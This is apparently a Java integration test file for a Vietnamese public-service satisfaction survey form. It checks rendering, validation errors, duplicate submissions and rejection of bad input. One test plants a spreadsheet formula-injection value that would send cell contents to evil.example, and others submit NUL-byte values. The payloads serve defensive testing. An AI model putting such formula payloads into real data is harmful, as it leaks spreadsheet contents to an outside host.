package vn.parsipas.survey.form;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;

import java.util.HashMap;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ValidatableResponse;
import vn.parsipas.survey.Fixtures;
import vn.parsipas.survey.SurveyServiceTest;

/** The citizen form's answers over plain HTTP, as a browser without JavaScript posts them. */
@QuarkusTest
@SurveyServiceTest
class CitizenFormTest {
    @Test
    void aValidCodeAndPinOpenTheQuestionnaireInVietnameseWithLabelledAnswers() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);

        given().get("/khao-sat").then().statusCode(200).contentType("text/html")
                .body(containsString("<html lang=\"vi\">")).body(containsString("<label for=\"receiptCode\">Mã hồ sơ</label>"))
                .body(containsString("<label for=\"pin\">Mã PIN</label>"));
        CitizenFormAbuseTest.open(code, pin).then().statusCode(200)
                .body(containsString("<h3>Chỉ số hài lòng về TTHC</h3>"))
                .body(containsString("<legend>Mức độ hài lòng chung của Ông/Bà về thủ tục hành chính đã thực hiện"))
                .body(containsString("5 – Rất hài lòng")).body(containsString("1 – Rất không hài lòng"))
                .body(containsString("name=\"viewport\""));
    }

    @Test
    void missingRequiredAnswersShowTheFormAgainWithWhatToCorrectAndTheChoicesKept() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);
        Map<String, String> answers = answers(code, pin, UUID.randomUUID().toString());
        answers.remove("q_2.2.2-q1");
        answers.remove("channel");

        post(answers).statusCode(400)
                .body(containsString("Phiếu chưa được gửi. Vui lòng sửa 2 mục sau:"))
                .body(containsString("<a href=\"#f-q-2-2-2-q1\">Vui lòng chọn mức độ hài lòng: Mức độ hài lòng chung của Ông/Bà về thủ tục"))
                .body(containsString("Vui lòng chọn hình thức Ông/Bà đã nộp hồ sơ."))
                .body(containsString("id=\"f-q-2-2-2-q1\" aria-invalid=\"true\""))
                .body(containsString("id=\"f-q-2-2-1-q1-4\" name=\"q_2.2.1-q1\" value=\"4\" checked"));
        assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isZero();
    }

    @Test
    void aChoiceThatIsNotAnOptionOfTheQuestionnaireIsRefusedOnThePage() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);
        Map<String, String> answers = answers(code, pin, UUID.randomUUID().toString());
        answers.put("ethnicGroup", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")");

        post(answers).statusCode(400).body(containsString("Phiếu chưa được gửi. Vui lòng sửa 1 mục sau:"))
                .body(containsString("<a href=\"#f-ethnicGroup\">Vui lòng chọn một trong các lựa chọn của câu: Dân tộc"));
        assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isZero();
    }

    @Test
    void aDoubleSubmissionIsThankedOnceAndAnotherResponseForTheCodeIsRefused() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);
        Map<String, String> answers = answers(code, pin, UUID.randomUUID().toString());

        post(answers).statusCode(200).body(containsString("Cảm ơn Ông/Bà đã tham gia khảo sát!"));
        post(answers).statusCode(200).body(containsString("Cảm ơn Ông/Bà đã tham gia khảo sát!"));
        post(answers(code, pin, UUID.randomUUID().toString())).statusCode(400)
                .body(containsString("Không mở được phiếu đánh giá")).body(not(containsString("Cảm ơn Ông/Bà đã tham gia")));

        assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isOne();
    }

    @Test
    void controlCharactersInTheFormAreRefusedWithAPageAndStoreNothing() {
        String agency = Fixtures.uniqueAgency();
        Fixtures.agencies(agency);
        String code = Fixtures.uniqueReceipt();
        String pin = Fixtures.registerReceipt(code, agency);
        Map<String, String> nulInCode = answers(code + "\u0000", pin, UUID.randomUUID().toString());
        Map<String, String> nulInAttribute = answers(code, pin, UUID.randomUUID().toString());
        nulInAttribute.put("ethnicGroup", "Kinh\u0000");

        // the one answer for a code that cannot be used (review H4): nothing says why
        post(nulInCode).statusCode(400).contentType("text/html").body(not(containsString("U+0000")));
        post(nulInAttribute).statusCode(400).contentType("text/html").body(containsString("Vui lòng chọn một trong các lựa chọn của câu: Dân tộc"));
        assertThat(Fixtures.count("select count(*) from survey_response where receipt_code = $1", code)).isZero();
        post(answers(code, pin, UUID.randomUUID().toString())).statusCode(200);
    }

    private static Map<String, String> answers(String code, String pin, String responseId) {
        Map<String, String> form = new HashMap<>(Map.of("receiptCode", code, "pin", pin, "responseId", responseId,
                "questionnaireVersion", "1", "channel", "online", "ageBand", "25-34", "gender", "male"));
        for (String question : Fixtures.REQUIRED) {
            form.put("q_" + question, "4");
        }
        return form;
    }

    private static ValidatableResponse post(Map<String, String> form) {
        return given().contentType("application/x-www-form-urlencoded; charset=UTF-8").formParams(form).post("/khao-sat").then();
    }
}
